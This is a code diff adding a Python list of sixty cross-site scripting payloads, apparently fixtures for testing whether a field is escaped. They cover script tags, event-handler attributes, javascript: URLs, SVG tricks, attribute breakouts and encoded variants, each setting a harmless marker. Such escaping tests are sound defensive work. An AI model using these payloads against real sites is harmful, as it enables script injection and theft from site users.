@@ -1,0 +1,62 @@
+"""Sixty ways to have a script run from a field that nobody escaped. Each of them would set `window.ran`."""
+
+_RUN = "window.ran=1"
+
+_ELEMENTS = [
+    f"<script>{_RUN}</script>",
+    f"<ScRiPt>{_RUN}</sCrIpT>",
+    f"<script\n>{_RUN}</script\n>",
+    f"<script src=data:text/javascript,{_RUN}></script>",
+    f"<script type=module>{_RUN}</script>",
+    f"<<script>{_RUN}//<</script>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img/src=x/onerror={_RUN}>",
+    f"<img src=x onerror='{_RUN}'>",
+    f'<img src=x onerror="{_RUN}">',
+    f"<image src=x onerror={_RUN}>",
+    f"<svg onload={_RUN}>",
+    f"<svg/onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><set onbegin={_RUN} attributeName=x to=1>",
+    f"<math><mtext><img src=x onerror={_RUN}>",
+    f"<body onload={_RUN}>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<iframe src=javascript:parent.{_RUN}></iframe>",
+    f"<object data=javascript:{_RUN}></object>",
+    f"<embed src=javascript:{_RUN}>",
+    f"<video src=x onerror={_RUN}></video>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}></audio>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<select autofocus onfocus={_RUN}></select>",
+    f"<textarea autofocus onfocus={_RUN}></textarea>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<style onload={_RUN}></style>",
+    f"<style>@import 'data:text/css,x'</style><img src=x onerror={_RUN}>",
+    f"<link rel=stylesheet href=data:text/css, onload={_RUN}>",
+    f"<base href=javascript:{_RUN}//>",
+    f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>",
+    f"<form><button formaction=javascript:{_RUN} autofocus onfocus={_RUN}>x</button></form>",
+    f"<a href=javascript:{_RUN} autofocus onfocus={_RUN} tabindex=0>x</a>",
+    f"<p style=animation-name:x onanimationstart={_RUN}>x</p>",
+    f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
+    f"<noscript><img src=x onerror={_RUN}></noscript>",
+]
+
+_CLOSERS = ['"', "'", "</p>", "</mark>", "</data>", "</style>", "</script>", "</section>", "-->", "]]>", "</title>"]
+
+PAYLOADS = [
+    *_ELEMENTS,
+    *(f"{closer}<img src=x onerror={_RUN}>" for closer in _CLOSERS),
+    f'" autofocus tabindex=0 onfocus={_RUN} x="',
+    f"' autofocus tabindex=0 onfocus={_RUN} x='",
+    f'"onmouseover={_RUN} ',
+    f'\\"><svg onload={_RUN}>',
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;<svg onload={_RUN}>",
+    f"&#60;img src=x onerror={_RUN}&#62;",
+    f"<!--><img src=x onerror={_RUN}>-->",
+    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
+    f"\x00<img src=x onerror={_RUN}>",
+]
